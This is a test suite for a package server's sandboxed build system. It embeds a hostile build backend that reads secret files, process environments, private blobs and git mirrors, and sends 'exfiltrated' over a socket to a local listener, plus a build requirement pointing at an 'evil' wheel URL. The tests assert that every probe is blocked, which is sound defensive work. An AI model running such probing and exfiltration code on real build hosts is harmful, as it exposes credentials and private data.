"""A hostile build backend sees nothing of the server and reaches no network.

A namespace writer's build backend runs on the server. This one (an in-tree backend,
``backend-path``) tries every place the server keeps something: the secrets folder, the
catalog, every namespace's blobs, the git mirrors, another build's folder, /root, the
server's environment through /proc, and sockets — to a port this test listens on and to the
server itself. Each probe prints ``BLOCKED`` or ``LEAK`` into the build log, which every
reader of the namespace can read; the build must still succeed and publish, so a normal
build works in the same sandbox. A second backend asks (through
``get_requires_for_build_wheel``) for a build requirement at a URL on the listening port:
refused before any install, and the listener sees nothing.
"""

from __future__ import annotations

import json
import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.builder.conftest import TINY_PYPROJECT, build_log, private_server, put_files, queued, unique_ns, wait_build
from tests.conftest import LiveServer
from tests.sync.conftest import GitRepo, git

SECRET_FILE_VALUE = f"secret-file-{uuid.uuid4().hex}"
SECRET_ENV_VALUE = f"secret-env-{uuid.uuid4().hex}"
BLOB_VALUE = f"private-blob-{uuid.uuid4().hex}"
MIRROR_VALUE = f"mirrored-code-{uuid.uuid4().hex}"

HOSTILE_BACKEND = r'''
"""Probes everything, then builds like the tiny backend (imported from tiny_backend.py)."""
import glob
import json
import os
import socket

import tiny_backend


def _read(path):
    with open(path, "rb") as f:
        return f.read(4096).decode("utf-8", "replace")


def _probe():
    with open("probes.json") as f:
        probes = json.load(f)
    for name, pattern in probes["paths"].items():
        # files only: the folders above the build's own ones exist in the sandbox, empty
        hits = [p for p in glob.glob(pattern, recursive=True) if not os.path.isdir(p)]
        if not hits:
            print(f"PROBE {name} BLOCKED {pattern}: no such file", flush=True)
        for path in hits[:20]:
            try:
                print(f"PROBE {name} LEAK {path}: {_read(path)!r}", flush=True)
            except OSError as exc:
                print(f"PROBE {name} BLOCKED {path}: {exc}", flush=True)
    for path in glob.glob("/proc/[0-9]*/environ"):  # only the sandbox's own processes are there
        try:
            print(f"PROBE proc-environ SEEN {path}: {_read(path)!r}", flush=True)
        except OSError as exc:
            print(f"PROBE proc-environ BLOCKED {path}: {exc}", flush=True)
    print(f"PROBE own-env SEEN {sorted(os.environ.items())!r}", flush=True)
    for name, (host, port) in probes["sockets"].items():
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                s.sendall(b"exfiltrated\n")
            print(f"PROBE {name} LEAK connected to {host}:{port}", flush=True)
        except OSError as exc:
            print(f"PROBE {name} BLOCKED {host}:{port}: {exc}", flush=True)


def get_requires_for_build_wheel(config_settings=None):
    with open("probes.json") as f:
        return json.load(f).get("requires", [])


def build_sdist(sdist_directory, config_settings=None):
    _probe()
    return tiny_backend.build_sdist(sdist_directory, config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _probe()
    return tiny_backend.build_wheel(wheel_directory, config_settings, metadata_directory)
'''


class Listener:
    """A TCP port on 127.0.0.1 that records every connection made to it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.seen: list[bytes] = []
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.seen.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    self.seen.append(b"<connected>")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LiveServer, Listener]]:
    root = tmp_path_factory.mktemp("isolation")
    secrets = root / "secrets"
    secrets.mkdir()
    (secrets / "git-token").write_text(SECRET_FILE_VALUE)
    env = {"PACKYARD_SECRETS_DIR": str(secrets), "GIT_TOKEN_PROBE": SECRET_ENV_VALUE}
    listener = Listener()
    try:
        with private_server(root / "server", env) as server:
            yield server, listener
    finally:
        listener.sock.close()


def hostile_project(name: str, probes: dict) -> dict[str, bytes]:
    from tests.builder.conftest import TINY_BACKEND

    return {
        "pyproject.toml": TINY_PYPROJECT.replace("tiny_backend", "hostile_backend").encode(),
        "hostile_backend.py": HOSTILE_BACKEND.encode(),
        "tiny_backend.py": TINY_BACKEND.encode(),
        "tiny.json": json.dumps({"name": name, "version": "1.0.0"}).encode(),
        "probes.json": json.dumps(probes).encode(),
    }


def test_a_hostile_backend_reaches_nothing(hostile: tuple[LiveServer, Listener]) -> None:
    server, listener = hostile
    data = server.server.data
    with httpx.Client(base_url=server.url, timeout=60) as http:
        # something of every kind for the backend to look for: another namespace's file (a
        # blob), a mirror fetched by a sync, another build's folder, a file in /root
        other = unique_ns()
        put_files(http, server, other, {"private.txt": BLOB_VALUE.encode()})
        repo = GitRepo(data.parent.parent / f"repo-{uuid.uuid4().hex[:8]}.git", "-")  # in the listed folder
        git("init", "-q", "--bare", str(repo.bare))
        repo.commit({"code.py": MIRROR_VALUE.encode()})
        response = http.post(f"/api/v1/namespaces/{other}/sync", json={"url": repo.url}, headers=server.admin)
        assert response.status_code == 200, response.text
        assert list((data / "mirrors").glob("*.git")), "the sync made no mirror"
        neighbour = data / "build-cache" / "work" / f"build-0-neighbour-{uuid.uuid4().hex[:6]}"
        (neighbour / "src").mkdir(parents=True)
        (neighbour / "src" / "secret.txt").write_text(BLOB_VALUE)
        in_root = Path.home() / f"packyard-probe-{uuid.uuid4().hex[:8]}"
        in_root.write_text(SECRET_FILE_VALUE)
        index_port = int(server.url.rsplit(":", 1)[1])
        probes = {
            "paths": {
                "secrets-dir": str(data.parent.parent / "secrets" / "git-token"),
                "catalog": str(data / "catalog.db"),
                "blobs": str(data / "blobs" / "**" / "*"),
                "mirrors": str(data / "mirrors" / "*.git" / "objects" / "**" / "*"),
                "data-folder": str(data / "*"),
                "root-home-listing": str(Path.home() / "*"),
                "other-build": str(neighbour / "src" / "secret.txt"),
                "root-home": str(in_root),
            },
            "sockets": {"listener": ["127.0.0.1", listener.port], "server": ["127.0.0.1", index_port]},
        }
        try:
            ns = unique_ns()
            put_files(http, server, ns, hostile_project("hostile", probes))
            build = wait_build(http, queued(http, server, ns)["id"])
            log = build_log(http, build["id"])
        finally:
            in_root.unlink()
        published = http.get(f"/{ns}/simple/hostile/")
    assert build["state"] == "succeeded", log[-4000:]
    assert "sandbox bwrap" in log
    assert published.status_code == 200 and "hostile-1.0.0-py3-none-any.whl" in published.text
    assert "LEAK" not in log, "\n".join(line[:300] for line in log.splitlines() if "LEAK" in line)
    for name in [*probes["paths"], *probes["sockets"]]:
        assert f"PROBE {name} BLOCKED" in log, f"probe {name} did not run:\n{log[-3000:]}"
    for value in (SECRET_FILE_VALUE, SECRET_ENV_VALUE, BLOB_VALUE, MIRROR_VALUE, server.admin_token):
        assert value not in log
    assert listener.seen == [], listener.seen


def test_a_build_requirement_at_a_url_is_refused(hostile: tuple[LiveServer, Listener]) -> None:
    server, listener = hostile
    before = len(listener.seen)
    url = f"http://127.0.0.1:{listener.port}/evil-1.0-py3-none-any.whl"
    probes = {"paths": {}, "sockets": {}, "requires": [f"evil @ {url}"]}
    with httpx.Client(base_url=server.url, timeout=60) as http:
        ns = unique_ns()
        put_files(http, server, ns, hostile_project("urlreq", probes))
        build = wait_build(http, queued(http, server, ns)["id"])
        log = build_log(http, build["id"])
    assert build["state"] == "failed", log[-3000:]
    assert "names a URL; build requirements come from the index" in log, log[-3000:]
    assert len(listener.seen) == before
